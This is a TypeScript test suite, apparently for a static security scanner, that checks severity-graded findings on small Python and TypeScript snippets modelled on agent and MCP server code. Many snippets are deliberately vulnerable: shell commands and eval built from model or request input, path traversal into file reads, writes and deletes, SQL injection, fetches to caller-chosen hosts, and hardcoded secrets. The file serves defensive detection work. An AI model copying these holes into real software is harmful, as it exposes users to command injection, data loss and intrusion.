  it('`npx nx` in an MCP configuration of a project that installs `nx` with a lockfile runs that locked version once installed: low; `@latest` and a package it does not install stay medium', async () => {
    // the shape of ag-ui's .mcp.json
    const dir = mkdtempSync(path.join(os.tmpdir(), 'agentos-locked-npx-'));
    writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'ag-ui', private: true, devDependencies: { nx: '^22.4.5' } }));
    writeFileSync(path.join(dir, 'pnpm-lock.yaml'), "lockfileVersion: '9.0'\n");
    const src = JSON.stringify(
      {
        mcpServers: {
          'nx-mcp': { type: 'stdio', command: 'npx', args: ['nx', 'mcp'] },
          playwright: { type: 'stdio', command: 'npx', args: ['-y', '@playwright/mcp@latest'] },
          other: { type: 'stdio', command: 'npx', args: ['-y', 'some-mcp-server'] },
        },
      },
      null,
      2,
    );
    try {
      expect(await check('.mcp.json', src, defaultConfig(dir))).toEqual(['7 mcp-unpinned-server low', '16 mcp-unpinned-server medium', '24 mcp-unpinned-server medium']);
      // without a lockfile the version is whatever the range lets npm install: reported as before
      const other = mkdtempSync(path.join(os.tmpdir(), 'agentos-unlocked-npx-'));
      writeFileSync(path.join(other, 'package.json'), JSON.stringify({ name: 'ag-ui', private: true, devDependencies: { nx: '^22.4.5' } }));
      try {
        expect(await check('.mcp.json', src, defaultConfig(other))).toEqual(['7 mcp-unpinned-server medium', '16 mcp-unpinned-server medium', '24 mcp-unpinned-server medium']);
      } finally {
        rmSync(other, { recursive: true, force: true });
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('agent code not used for tuning, sixty-third round: a route\'s one path segment as a file name', () => {
  it('a route\'s `{name}` as the last part of a path whose file is read or written is no traversal; in the middle of a path, or listed, it still is (Python)', async () => {
    // the shape of workflow-use's backend: `self.tmp_dir / name` for `GET /{name}`
    const py = `import os
import shutil
from pathlib import Path
from fastapi import APIRouter

router = APIRouter(prefix="/api/workflows")
TMP = Path("data/workflows")

@router.get("/{name}")
async def get_workflow(name: str):
    return (TMP / name).read_text()

@router.put("/{name}")
async def put_workflow(name: str, body: dict):
    (TMP / name).write_text(str(body))

@router.get("/{name}/steps")
async def get_steps(name: str):
    return open(f"data/{name}/steps.json").read()

@router.get("/{name}/files")
async def list_files(name: str):
    return os.listdir(TMP / name)

@router.delete("/{name}")
async def delete_workflow(name: str):
    shutil.rmtree(TMP / name)
`;
    expect((await check('backend/routers.py', py)).filter((f) => f.includes('untrusted'))).toEqual([
      '19 file-untrusted-path high',
      '23 file-untrusted-path high',
      '27 file-untrusted-path high',
    ]);
  });
});

describe('agent code not used for tuning, sixty-fourth round: a probe table, a JWT type, a testing skill, a guard written the other way round', () => {
  it('a constant DROP of a table the same function created just before is low; a DROP of a table it did not create keeps its grade (Python)', async () => {
    // the shape of chatgpt-on-wechat's FTS5 support probe
    const py = `import sqlite3

class Storage:
    def __init__(self, path):
        self.conn = sqlite3.connect(path)

    def _check_fts5_support(self):
        self.conn.execute("CREATE VIRTUAL TABLE IF NOT EXISTS fts5_test USING fts5(test)")
        self.conn.execute("DROP TABLE IF EXISTS fts5_test")
        return True

    def _reset(self):
        self.conn.execute("DROP TABLE IF EXISTS memories")
`;
    expect((await check('agent/memory/storage.py', py)).filter((f) => f.includes('sql-destructive'))).toEqual(['9 sql-destructive low', '13 sql-destructive high']);
  });

  it('a name ending in `typ` (a JWT type header) names no credential; a token still does (Python)', async () => {
    // the shape of LangBot's support-admin session constants
    const py = `SUPPORT_ADMIN_TOKEN_TYP = "langbot-support-admin+jwt"
SUPPORT_ADMIN_TOKEN = "Xk9mQ2vLp8sT4wZr7Yb1"
`;
    expect(await check('pkg/cloud/support_admin.py', py)).toEqual(['2 hardcoded-secret high']);
  });

  it('a folder named for testing something (`langbot-testing/probes/`) is test code (JavaScript)', async () => {
    const js = 'const DEFAULT_LOCAL_PASSWORD = "LangBotE2ELocalPass!2026";\nexport default DEFAULT_LOCAL_PASSWORD;\n';
    expect(await check('skills/langbot-testing/probes/chat-concurrency.mjs', js)).toEqual(['1 hardcoded-secret low']);
    expect(await check('skills/langbot-tools/probes/chat-concurrency.mjs', js)).toEqual(['1 hardcoded-secret high']);
  });

  it('`p != root and not p.startswith(root + sep)` then raise guards p, in this order as in the other (Python)', async () => {
    // the shape of AstrBot's workspace file download
    const py = `import os
from fastapi import APIRouter
from fastapi.responses import FileResponse
router = APIRouter()
ROOT = "/srv/workspaces"

@router.get("/download")
async def download(path: str):
    root = os.path.normcase(os.path.realpath(ROOT))
    target = os.path.normcase(os.path.realpath(os.path.join(ROOT, path)))
    prefix = os.path.join(root, "")
    if target != root and not target.startswith(prefix):
        raise ValueError("outside the workspace")
    return FileResponse(target)

@router.get("/loose")
async def loose(path: str):
    target = os.path.realpath(os.path.join(ROOT, path))
    if target != ROOT and target.endswith(".py"):
        raise ValueError("no code")
    return FileResponse(target)
`;
    expect(await check('dashboard/api/chat_projects.py', py)).toEqual(['21 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, sixty-fifth round: a command line without a shell', () => {
  it('a command line passed as one string without a shell starts its constant first word; the rest are its arguments (Python)', async () => {
    // the shape of semanticworkbench's LaTeX compile step in its filesystem-edit MCP server
    const py = `import subprocess
from pathlib import Path
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("edit")

@mcp.tool()
def compile_tex(path: str) -> str:
    tex_file = Path(path)
    cmd = f'pdflatex -interaction=nonstopmode -output-directory="{tex_file.parent}" "{tex_file}"'
    return subprocess.run(cmd, capture_output=True, text=True).stdout

@mcp.tool()
def run_program(path: str) -> str:
    return subprocess.run(path, capture_output=True, text=True).stdout
`;
    expect((await check('server.py', py)).filter((f) => f.includes('subprocess'))).toEqual(['11 subprocess-dynamic-command medium', '15 subprocess-dynamic-command critical']);
  });
});

describe('command lines, mappings of the program, stored rows, objects of two shapes, members of object arguments', () => {
  it('a shell line a command-line parser filled is the operator\'s: yargs, commander, minimist, util.parseArgs (TypeScript), click and Typer (Python)', async () => {
    // supergateway's `--stdio "<command>"`, run with `spawn(stdioCmd, { shell: true })`
    const ts = `import yargs from 'yargs'
import { hideBin } from 'yargs/helpers'
import { Command } from 'commander'
import minimist from 'minimist'
import { parseArgs } from 'node:util'
import { spawn } from 'child_process'

export async function main(input: string) {
  const argv = await yargs(hideBin(process.argv)).option('stdio', { type: 'string' }).help().parseAsync()
  spawn(argv.stdio!, { shell: true })
  const program = new Command().option('--cmd <c>')
  program.parse()
  spawn(program.opts().cmd, { shell: true })
  spawn(minimist(process.argv.slice(2)).cmd, { shell: true })
  const { values } = parseArgs({ options: { cmd: { type: 'string' } } })
  spawn(values.cmd!, { shell: true })
  spawn(input, { shell: true })
}
`;
    expect(await check('src/cli.ts', ts)).toEqual(['10 subprocess-shell low', '13 subprocess-shell low', '14 subprocess-shell low', '16 subprocess-shell low', '17 subprocess-shell high']);
    // kotaemon's `start-project --template`, skyvern's Typer commands; a plain function keeps its grade
    const py = `import click, subprocess, typer

@click.group()
def main():
    pass

@main.command()
@click.option("--template", default="project-default")
def start_project(template):
    subprocess.run(f"cookiecutter git+https://example.com/t --directory='templates/{template}'", shell=True)

app = typer.Typer()

@app.command(name="stop")
def stop(pid: str):
    subprocess.run(f"taskkill /PID {pid} /F", shell=True)

def helper(pid):
    subprocess.run(f"kill {pid}", shell=True)
`;
    expect(await check('app/cli.py', py)).toEqual(['10 subprocess-shell low', '16 subprocess-shell low', '19 subprocess-shell medium']);
  });

  it('an entry of a mapping of the program picked by a tool\'s key, and rows a store query returns, are not the key\'s; the key still reaches a sink it goes to (TypeScript)', async () => {
    // mcpjam's inspector: a skill resolved by the model's name in a Map the server built, its file's stored URL fetched;
    // a session row looked up by the request's id and its stored blob URL fetched
    const src = `import { z } from 'zod'
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'

interface Lookup { byRef: Map<string, { url: string }> }
type Resolution = { ok: true; skill: { url: string } } | { ok: false; error: string }

function resolveRef(lookup: Lookup, raw: string): Resolution {
  const exact = lookup.byRef.get(raw)
  if (exact) return { ok: true, skill: exact }
  return { ok: false, error: \`Skill "\${raw}" not found.\` }
}

export function register(server: McpServer, lookup: Lookup, client: any) {
  server.tool('read_skill', { name: z.string() }, async ({ name }) => {
    const resolved = resolveRef(lookup, name)
    if (!resolved.ok) return { content: [{ type: 'text', text: resolved.error }] }
    const res = await fetch(resolved.skill.url)
    const session = await client.query('chatSessions:getSession', { sessionId: name })
    await fetch(session.messagesBlobUrl)
    await fetch(\`https://\${name}.example.com/\`)
    return { content: [{ type: 'text', text: await res.text() }] }
  })
}
`;
    const found = (await check('src/skills.ts', src)).filter((f) => f.includes('egress'));
    expect(found).toEqual(['20 egress-untrusted-url critical']);
  });

  it('an object argument\'s member reaches a sink in another module whether the callee reads it by member or destructures it (TypeScript)', async () => {
    const found = await checkProject({
      'src/run.ts': `import { spawn } from 'child_process'
export function viaMember(args: { cmd: string; other: string }) {
  spawn(args.cmd, { shell: true })
}
export function viaPattern(args: { cmd: string; logger: Console }) {
  const { cmd, logger } = args
  logger.info(cmd)
  spawn(cmd, { shell: true })
}
`,
      'src/server.ts': `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'
import { z } from 'zod'
import { viaMember, viaPattern } from './run.js'
const server = new McpServer({ name: 'x', version: '1' })
server.tool('run', { command: z.string() }, async ({ command }) => {
  viaMember({ cmd: command, other: 'x' })
  viaPattern({ cmd: command, logger: console })
  return { content: [] }
})
`,
      'src/gateway.ts': `import yargs from 'yargs'
import { hideBin } from 'yargs/helpers'
import { viaPattern } from './run.js'
import { makeLogger } from './log.js'
const argv = yargs(hideBin(process.argv)).option('stdio', { type: 'string' }).parseSync()
viaPattern({ cmd: argv.stdio!, logger: makeLogger() })
`,
      'src/log.ts': 'export function makeLogger() { return console }\n',
    });
    expect(found.filter((f) => f.startsWith('src/run.ts'))).toEqual(['src/run.ts 3 subprocess-shell critical', 'src/run.ts 8 subprocess-shell critical']);
  });
});

describe('characters removed by a global replace (TypeScript)', () => {
  it('a name with every character but word characters replaced, or with `/` and `.` replaced, cannot climb out of its folder; with `/` alone replaced it still can', async () => {
    // spec-workflow-mcp's implementation log file name: `task-${taskId.replace(/[/.]/g, '-')}_…`
    const src = `import fs from 'fs'
import path from 'path'
import { z } from 'zod'
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'
const DIR = './notes'
const server = new McpServer({ name: 'n', version: '1' })
server.tool('read', { name: z.string(), task: z.string() }, async ({ name, task }) => {
  const a = fs.readFileSync(path.join(DIR, name.replace(/[^\\w-]/g, '_')), 'utf8')
  fs.writeFileSync(\`\${DIR}/task-\${task.replace(/[/.]/g, '-')}.md\`, a)
  fs.writeFileSync(\`\${DIR}/task-\${task.replace(/[/]/g, '-')}.md\`, a)
  return { content: [{ type: 'text', text: fs.readFileSync(path.join(DIR, name), 'utf8') }] }
})
`;
    expect((await check('src/notes.ts', src)).filter((f) => f.includes('file-untrusted-path'))).toEqual(['10 file-untrusted-path critical', '11 file-untrusted-path critical']);
  });
});

describe('the destination of a request given as an options object (TypeScript)', () => {
  it('is its host, port and protocol, written or spread in: a tool value in the path or a header is no SSRF, one in the host is', async () => {
    // mcp-server-youtube-transcript's `httpsRequest({ ...options, timeout })` called with a fixed host and the video id in the path
    const src = `import https from 'https'
import { z } from 'zod'
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'

function httpsRequest(options: https.RequestOptions, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const req = https.request({ ...options, timeout: 3000 }, (res) => resolve(String(res.statusCode)))
    if (body) req.write(body)
    req.end()
  })
}

const server = new McpServer({ name: 'yt', version: '1' })
server.tool('transcript', { videoId: z.string(), host: z.string() }, async ({ videoId, host }) => {
  const page = await httpsRequest({ hostname: 'www.youtube.com', path: \`/watch?v=\${videoId}\`, headers: { 'X-Video': videoId } })
  const other = await httpsRequest({ hostname: host, path: '/' })
  https.request({ hostname: 'api.example.com', path: \`/v/\${videoId}\` })
  https.request({ host, path: '/' })
  return { content: [{ type: 'text', text: page + other }] }
})
`;
    expect((await check('src/yt.ts', src)).filter((f) => f.includes('egress-untrusted-url'))).toEqual(['7 egress-untrusted-url critical', '18 egress-untrusted-url critical']);
  });
});

describe('URL prefixes a program allows (Python, TypeScript)', () => {
  it('a prefix held by a module constant, or one of a collection of allowed origins, is an allowlist check; a check the configuration can switch off is not', async () => {
    // langchain-ai/mcpdoc: `if not url.startswith(ALLOWED_PREFIX): return "Error"`, and
    // `if "*" not in domains and not any(url.startswith(domain) for domain in domains): return ...`
    const py = `import httpx
from mcp.server.fastmcp import FastMCP
server = FastMCP("docs")
ALLOWED_PREFIX = "https://langchain-ai.github.io/"
domains = {"https://docs.example.com/"}

@server.tool()
async def get_docs(url: str) -> str:
    """Get docs."""
    if not url.startswith(ALLOWED_PREFIX):
        return "Error"
    return (await httpx.AsyncClient().get(url)).text

@server.tool()
async def fetch_docs(url: str) -> str:
    """Fetch docs."""
    if not any(url.startswith(domain) for domain in domains):
        return "Error"
    return (await httpx.AsyncClient().get(url)).text

@server.tool()
async def fetch_any(url: str) -> str:
    """Fetch docs."""
    if "*" not in domains and not any(url.startswith(domain) for domain in domains):
        return "Error"
    return (await httpx.AsyncClient().get(url)).text
`;
    expect((await check('app/server.py', py)).filter((f) => f.includes('egress'))).toEqual(['26 egress-untrusted-url critical']);
    const ts = `import { z } from 'zod'
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'
const ALLOWED_PREFIX = 'https://langchain-ai.github.io/'
const server = new McpServer({ name: 'd', version: '1' })
server.tool('docs', { url: z.string() }, async ({ url }) => {
  if (!url.startsWith(ALLOWED_PREFIX)) return { content: [] }
  const r = await fetch(url)
  return { content: [{ type: 'text', text: await r.text() }] }
})
`;
    expect((await check('src/fetcher.ts', ts)).filter((f) => f.includes('egress'))).toEqual([]);
  });
});

describe('a relative URL on a client with a base URL (TypeScript)', () => {
  it('`cards/${cardId}/comments` is a path under the base; a host or a first segment from the tool is not', async () => {
    // delorenj/mcp-server-trello: `this.axiosInstance.post(\`cards/${cardId}/actions/comments?text=...\`)`
    const src = `import axios from 'axios'
import { z } from 'zod'
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'
const api = axios.create({ baseURL: 'https://api.trello.com/1' })
const server = new McpServer({ name: 't', version: '1' })
server.tool('comment', { cardId: z.string(), host: z.string() }, async ({ cardId, host }) => {
  await api.post(\`cards/\${cardId}/actions/comments\`)
  await api.post(\`\${host}/actions/comments\`)
  await api.post(\`api-\${host}/actions/comments\`)
  return { content: [] }
})
`;
    expect((await check('src/trello.ts', src)).filter((f) => f.includes('egress-untrusted'))).toEqual(['8 egress-untrusted-url critical', '9 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, seventy-first round: domain suffixes, entries taken out by key, closed SQL literals, translation keys', () => {
  it('a host checked to end with one of the allowed domains is an allowlist check; a suffix that is not a domain of two labels is not (Python)', async () => {
    // microsoft/data-formulator: `if parsed.scheme != "https" or not hostname.endswith(_KUSTO_HOST_SUFFIXES) or ...: raise`
    const src = `import urllib.parse
import requests
from flask import Flask, request
app = Flask(__name__)
SUFFIXES = (".kusto.windows.net", ".kusto.chinacloudapi.cn")

def cluster_origin(cluster):
    parsed = urllib.parse.urlparse(cluster.strip())
    hostname = (parsed.hostname or "").lower()
    if parsed.scheme != "https" or not hostname.endswith(SUFFIXES) or parsed.username:
        raise ValueError("bad cluster")
    origin = f"https://{hostname}"
    # (the port of a parsed URL is a number)
    if parsed.port:
        origin += f":{parsed.port}"
    return origin

def loose_origin(cluster):
    hostname = urllib.parse.urlparse(cluster).hostname or ""
    if not hostname.endswith((".com", "windows.net")):
        raise ValueError("bad cluster")
    return f"https://{hostname}"

@app.route("/login")
def login():
    requests.get(f"{cluster_origin(request.args.get('c', ''))}/v1/rest/auth/metadata")
    requests.get(f"{loose_origin(request.args.get('c', ''))}/v1/rest/auth/metadata")
    return "ok"
`;
    expect((await check('app/kusto.py', src)).filter((f) => f.includes('egress'))).toEqual(['27 egress-untrusted-url high']);
  });

  it('an entry taken out of a mapping by a request\'s key (`pop`), or read from a mapping the session gives, is what the program stored; a list the request sent is not (Python)', async () => {
    // data-formulator's OAuth callback: `pending = session.get(_STATE_KEY, {}).pop(state, None)`, then `http.post(pending["token_url"])`
    const src = `import requests
from flask import Flask, request, session
app = Flask(__name__)

@app.route("/callback")
def callback():
    state = request.args.get("state", "")
    states = session.get("oauth", {})
    pending = states.pop(state, None)
    requests.post(pending["token_url"], data={})
    again = states.get(state)
    requests.post(again["token_url"], data={})
    sent = request.get_json()["urls"]
    requests.post(sent.pop(0), data={})
    return "ok"
`;
    expect((await check('app/oauth.py', src)).filter((f) => f.includes('egress'))).toEqual(['14 egress-untrusted-url high']);
  });

  it('request text inside a SQL string literal with its quote and its backslash doubled, or with its quote doubled for DuckDB, SQLite or PostgreSQL, cannot leave it; for MySQL the quote alone does not hold (Python)', async () => {
    // data-formulator: `path_escaped = str(parquet_path).replace("\\\\", "\\\\\\\\").replace("'", "''")` in DuckDB's `read_parquet('...')`
    const src = `import duckdb, sqlite3, pymysql
from flask import Flask, request
app = Flask(__name__)

@app.route("/x")
def x():
    p = request.args.get("p")
    both = str(p).replace("\\\\", "\\\\\\\\").replace("'", "''")
    quote = p.replace("'", "''")
    duck = duckdb.connect(":memory:")
    duck.execute(f"SELECT column_name FROM parquet_schema('{both}')")
    duck.execute(f"SELECT column_name FROM parquet_schema('{quote}')")
    sqlite3.connect("x.db").execute(f"SELECT * FROM t WHERE name = '{quote}'")
    my = pymysql.connect()
    my.cursor().execute(f"SELECT * FROM t WHERE name = '{quote}'")
    my.cursor().execute(f"SELECT * FROM t WHERE name = '{both}'")
    my.cursor().execute(f"SELECT * FROM t WHERE name = {both}")
    return "ok"
`;
    expect((await check('app/export.py', src)).filter((f) => f.includes('sql'))).toEqual(['15 sql-injection high', '17 sql-injection high']);
  });

  it('backslashes and quotes doubled in either order close a string literal (TypeScript)', async () => {
    const src = `import mysql from 'mysql2/promise'
import express from 'express'
const app = express()
app.get('/x', async (req, res) => {
  const db = await mysql.createConnection({})
  const name = String(req.query.name)
  await db.query(\`SELECT * FROM t WHERE name = '\${name.replace(/\\\\/g, '\\\\\\\\').replace(/'/g, "''")}'\`)
  await db.query(\`SELECT * FROM t WHERE name = '\${name.replaceAll("'", "''").replaceAll('\\\\', '\\\\\\\\')}'\`)
  await db.query(\`SELECT * FROM t WHERE name = '\${name.replace(/'/g, "''")}'\`)
  res.send('ok')
})
`;
    expect((await check('src/route.ts', src)).filter((f) => f.includes('sql'))).toEqual(['9 sql-injection high']);
  });

  it('a value checked to be one of the constants written out is one of them, passed to a helper whose SQL splices it; an unchecked one, read with `request.get_json().get(...)`, is request input (Python)', async () => {
    // data-formulator's CSV export: `if delimiter not in (',', '\t'): raise`, then `f"HEADER, DELIMITER '{delimiter}'"` in a private helper
    const src = `import duckdb
from flask import Flask, request
app = Flask(__name__)

def _export(delimiter):
    conn = duckdb.connect(":memory:")
    conn.execute(f"COPY (SELECT 1) TO 'out.csv' (HEADER, DELIMITER '{delimiter}')")

@app.route("/export", methods=["POST"])
def export():
    delimiter = request.get_json().get("delimiter", ",")
    if delimiter not in (",", "\\t"):
        raise ValueError("delimiter must be ',' or tab")
    _export(delimiter)
    return "ok"

@app.route("/export-any", methods=["POST"])
def export_any():
    conn = duckdb.connect(":memory:")
    sep = request.get_json().get("delimiter", ",")
    conn.execute(f"COPY (SELECT 1) TO 'out.csv' (HEADER, DELIMITER '{sep}')")
    return "ok"
`;
    expect((await check('app/export.py', src)).filter((f) => f.includes('sql'))).toEqual(['21 sql-injection high']);
  });

  it('a dynamic word standing alone after a subcommand that takes a program-running option may be that option; after `--`, or for a subcommand without one, it is an operand (Python)', async () => {
    // DB-GPT's git knowledge loader: `git -c protocol.ext.allow=never clone --branch {branch} {repo_url} {dir}` (the URL could be
    // `--upload-pack=…`); claude-code's hooks: `git diff {base} {head}` of revisions read from git
    const src = `import subprocess, tempfile
from langchain_core.tools import tool

def clone(repo_url, branch):
    d = tempfile.mkdtemp()
    subprocess.run(["git", "-c", "protocol.ext.allow=never", "clone", "--branch", branch, repo_url, d], check=True)
    subprocess.run(["git", "clone", "--branch", branch, "--", repo_url, d], check=True)

def diff(base, head):
    return subprocess.run(["git", "diff", "--no-ext-diff", base, head], capture_output=True).stdout

def start(image):
    # (an image name in place of \`--privileged\`: not an option that runs a program)
    subprocess.run(["docker", "run", "-d", "--name", "box", image, "sleep", "infinity"], check=True)

@tool
def fetch_repo(url: str) -> str:
    """Clone a repository."""
    subprocess.run(["git", "clone", url, "/tmp/repo"], check=True)
    return "ok"
`;
    const found = await check('app/loader.py', src);
    // (with no source in sight outside an agent's command code the clone is low, as any dynamic argument there is)
    expect(found.filter((f) => f.includes('subprocess'))).toEqual(['6 subprocess-shell low', '19 subprocess-shell critical']);
  });

  it('the keys of a dict filtered by membership are the allowed ones when the dict itself is iterated; the unfiltered dict\'s keys are the request\'s (Python)', async () => {
    // DocsGPT's workflow repository: `filtered = {k: v for k, v in fields.items() if k in allowed}`, then `for col in filtered`
    const src = `from flask import Flask, request
from sqlalchemy import text
app = Flask(__name__)

def update(conn, fields):
    allowed = {"name", "description"}
    filtered = {k: v for k, v in fields.items() if k in allowed}
    set_parts = [f"{col} = :{col}" for col in filtered]
    conn.execute(text(f"UPDATE workflows SET {', '.join(set_parts)} WHERE id = :id"), filtered)

def update_any(conn, fields):
    set_parts = [f"{col} = :{col}" for col in fields]
    conn.execute(text(f"UPDATE workflows SET {', '.join(set_parts)} WHERE id = :id"), fields)

@app.route("/w", methods=["PUT"])
def put():
    update(None, request.get_json())
    update_any(None, request.get_json())
    return "ok"
`;
    expect((await check('app/workflows.py', src)).filter((f) => f.includes('sql'))).toEqual(['13 sql-injection high']);
  });

  it('a dotted path of camelCase names is a translation key, not a credential (TypeScript)', async () => {
    // data-formulator's `AUTH_ERROR_MESSAGES = { token_exchange_failed: 'auth.ssoErrorTokenExchange' }`
    const src = `export const AUTH_ERROR_MESSAGES: Record<string, string> = {
  token_exchange_failed: 'auth.ssoErrorTokenExchange',
  missing_token_endpoint: 'auth.ssoErrorMissingEndpoint',
}
export const other = { api_token: 'a8f5f167f44f4964e6c998dee827110c' }
`;
    expect((await check('src/app/messages.ts', src)).filter((f) => f.includes('secret'))).toEqual(['5 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, seventy-second round: plain words between quotes', () => {
  it('a name with every character but letters, digits, `_` and `-` replaced is a plain word, between double quotes as outside them; a name with `$` left in is not (TypeScript)', async () => {
    // Agent-MCP's tmux helpers: `const sessionName = agentId.replace(/[^a-zA-Z0-9_-]/g, '_')`, then `tmux kill-session -t "${sessionName}"`
    const src = `import { execSync } from 'child_process'
export function kill(agentId: string) {
  const sessionName = agentId.replace(/[^a-zA-Z0-9_-]/g, '_')
  execSync(\`tmux kill-session -t "\${sessionName}"\`)
  const looser = agentId.replace(/[^a-zA-Z0-9_.$-]/g, '_')
  execSync(\`tmux kill-session -t "\${looser}"\`)
  execSync(\`tmux send-keys -t "\${sessionName}" "\${agentId.replace(/"/g, '\\\\"')}"\`)
}
`;
    expect((await check('src/tmux.ts', src)).filter((f) => f.includes('subprocess'))).toEqual(['4 subprocess-shell low', '6 subprocess-shell medium', '7 subprocess-shell medium']);
  });
});

describe('programs found at a place a setting names: the file name says which program it is', () => {
  // cua's Android runtime: `_find_bin(sdk, "adb")` looks in the SDK's folders (with `.exe`/`.bat` on Windows), then on PATH
  const finder = (name: string) => `import platform
import shutil
import subprocess
from pathlib import Path


def _find_bin(sdk: Path, name: str) -> str:
    exts = ["", ".exe", ".bat"] if platform.system().lower() == "windows" else [""]
    dirs = [sdk / "emulator", sdk / "platform-tools"]
    for d in dirs:
        for ext in exts:
            c = d / f"{name}{ext}"
            if c.exists():
                return str(c)
    found = shutil.which(name)
    if found:
        return found
    raise FileNotFoundError(name)


def boot(sdk, tool):
    adb = _find_bin(sdk, ${name})
    subprocess.run([adb, "-s", "emulator-5554", "emu", "kill"], check=True)
`;
  it('a helper finding a constant name in configured folders or on PATH starts that program; a name from a parameter is still reported (Python)', async () => {
    expect(await check('cua_sandbox/runtime/android.py', finder('"adb"'))).toEqual([]);
    expect(await check('cua_sandbox/runtime/android.py', finder('tool'))).toEqual(['23 subprocess-dynamic-command medium']);
  });

  it('a path object in an argv list is its text: `sdk / "platform-tools" / "adb"` and `home / "adb"` start adb, `home / name` does not say (Python)', async () => {
    const src = `import subprocess
from pathlib import Path


def devices(sdk, home, name):
    subprocess.run([Path(sdk) / "platform-tools" / "adb", "devices"])
    subprocess.run([home / "adb", "devices"])
    subprocess.run([home / name, "devices"])
`;
    expect(await check('sandbox/adb.py', src)).toEqual(['8 subprocess-dynamic-command medium']);
  });
});

describe('paths keep their text through f-strings, returns and branches; `bash -c` lines are graded as shell lines', () => {
  // cognee's UI launcher: `get_nvm_sh_path()` returns `get_nvm_dir() / "nvm.sh"`, the folder from XDG_CONFIG_HOME or the home folder
  const launcher = (extra: string) => `import os
import subprocess
from pathlib import Path


def get_nvm_dir() -> Path:
    xdg = os.environ.get("XDG_CONFIG_HOME")
    if xdg:
        return Path(xdg) / "nvm"
    return Path.home() / ".nvm"


def get_nvm_sh_path() -> Path:
    return get_nvm_dir() / "nvm.sh"


def check(version):
    nvm_path = get_nvm_sh_path()
    subprocess.run(["bash", "-c", f"source {nvm_path} && nvm ${extra}"], check=True)
`;
  it('a configured folder returned as a path and put in a `bash -c` line is low; a parameter of a plain function in the same line keeps the grade (Python)', async () => {
    expect(await check('cognee/ui/node_setup.py', launcher('--version'))).toEqual(['19 subprocess-shell low']);
    expect(await check('cognee/ui/node_setup.py', launcher('install {version}'))).toEqual(['19 subprocess-shell medium']);
  });

  it('the text of a path in an f-string is the path joined: a folder the model names reaches the shell line (Python)', async () => {
    const src = `import subprocess
from pathlib import Path
from langchain_core.tools import tool


@tool
def run_script(folder: str) -> str:
    """Run the set-up script of a folder."""
    script = Path(folder) / "setup.sh"
    return subprocess.run(["bash", "-c", f"source {script}"], capture_output=True, text=True).stdout
`;
    expect(await check('agent/tools.py', src)).toEqual(['10 subprocess-shell critical']);
  });
});

describe('a program the code itself put in a temporary folder is not a known program', () => {
  it('`{tmp}/temp` (with `.exe` on Windows) compiled from the model\'s C code is still a dynamic program; pip of a virtual environment made there is pip (Python)', async () => {
    // agenticSeek's C interpreter: gcc compiles the model's code into the temporary folder, then runs what it built
    const src = `import os
import subprocess
import tempfile


def run_c(code):
    exec_extension = ".exe" if os.name == "nt" else ""
    with tempfile.TemporaryDirectory() as tmpdirname:
        source_file = os.path.join(tmpdirname, "temp.c")
        exec_file = os.path.join(tmpdirname, "temp") + exec_extension
        with open(source_file, "w") as f:
            f.write(code)
        subprocess.run(["gcc", source_file, "-o", exec_file], check=True)
        subprocess.run([exec_file], check=True)
        venv = tempfile.mkdtemp()
        subprocess.run([os.path.join(venv, "bin", "pip"), "install", "requests"], check=True)
`;
    expect((await check('sources/tools/c_interpreter.py', src)).filter((f) => f.includes('subprocess'))).toEqual(['14 subprocess-dynamic-command medium']);
  });
});

describe('inline code the program writes itself', () => {
  it('inline code of an interpreter holding only the program\'s own values or configuration is low, as a shell line is (Python)', async () => {
    const src = `import os
import subprocess


def notify(title):
    home = os.environ.get("APP_HOME", "/opt/app")
    subprocess.run(["osascript", "-e", f'display notification "done" with title "{home}"'])
    subprocess.run(["osascript", "-e", f'display notification "done" with title "{title}"'])
`;
    expect((await check('app/notify.py', src)).filter((f) => f.includes('subprocess'))).toEqual(['7 subprocess-shell low', '8 subprocess-shell medium']);
  });
});

describe('agent code not used for tuning, seventy-third round: LangChain 1.0\'s classic package, patterns bound to names, inline code of the program\'s own', () => {
  it('`@tool` from `langchain_classic.tools` registers a tool: its parameter in eval is critical (Python)', async () => {
    // bisheng's calculator tool
    const src = (from: string) => `from pydantic import BaseModel, Field
from ${from} import tool


class CalculatorInput(BaseModel):
    expression: str = Field(description="a mathematical expression")


@tool("calculator", args_schema=CalculatorInput)
def calculator(expression):
    """Useful to perform any mathematical calculations"""
    return eval(expression)
`;
    expect(await check('gpts/tools/calculator/tool.py', src('langchain_classic.tools'))).toEqual(['12 code-eval critical']);
    expect(await check('gpts/tools/calculator/tool.py', src('my_project.tools'))).toEqual(['12 code-eval high']);
  });

  it('`re.match(pattern, text)` with the pattern bound to a name checks the text as the pattern written out does (Python)', async () => {
    // bisheng's `load_as_score`: `pattern = r"^[\\d.]+$"`, then `if not re.match(pattern, text): ... else: eval(text)`
    const src = (pattern: string) => `import re


def load_as_score(text):
    pattern = r"${pattern}"
    if not re.match(pattern, text):
        score = 0.0
    else:
        score = eval(text)
    return score
`;
    expect(await check('chains/qa_generation/base.py', src('^[\\d.]+$'))).toEqual(['9 code-eval low']);
    expect(await check('chains/qa_generation/base.py', src('^[\\w.()]+$'))).toEqual(['9 code-eval high']);
  });
});

describe('agent code not used for tuning, seventy-fourth round: Agency Swarm\'s tools, a fetch guard named for its test', () => {
  it('an Agency Swarm `BaseTool`\'s annotated fields are the model\'s arguments in `run`; a plain pydantic model\'s are not (Python)', async () => {
    // agency-swarm's PersistentShellTool: `command: str = Field(...)`, then `subprocess.run(self.command, shell=True)`
    const src = (base: string, from: string) => `import subprocess
from pydantic import Field
from ${from} import ${base}


class PersistentShellTool(${base}):
    """Execute shell commands locally."""

    command: str = Field(..., description="Shell command to execute")
    timeout: int = 300

    def run(self) -> str:
        return subprocess.run(self.command, shell=True, capture_output=True, text=True, timeout=self.timeout).stdout
`;
    expect(await check('agency_swarm/tools/shell.py', src('BaseTool', 'agency_swarm.tools'))).toEqual(['13 subprocess-shell critical']);
